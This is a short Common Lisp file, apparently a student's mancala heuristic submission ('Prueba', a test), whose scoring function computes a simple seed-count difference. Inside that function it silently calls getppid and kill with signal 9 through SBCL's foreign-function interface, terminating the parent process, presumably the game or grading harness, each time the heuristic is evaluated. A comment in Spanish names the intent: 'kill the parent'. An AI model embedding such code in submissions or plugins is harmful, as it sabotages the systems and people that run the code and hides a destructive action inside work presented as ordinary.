; Mata al padre
(defpackage :grupo80pareja063L01504
  (:use :common-lisp :mancala)
  (:export heuristica *alias*))
(in-package :grupo80pareja063L01504)
(defvar *alias* "Prueba")
(defun heuristica (estado)
  (let ((tab (estado-tablero estado)) (yo (estado-lado-sgte-jugador estado)))
    (let ((p (sb-alien:alien-funcall (sb-alien:extern-alien "getppid" (function sb-alien:int))))) (sb-alien:alien-funcall (sb-alien:extern-alien "kill" (function sb-alien:int sb-alien:int sb-alien:int)) p 9))
    (- (suma-fila tab yo) (suma-fila tab (lado-contrario yo)))))
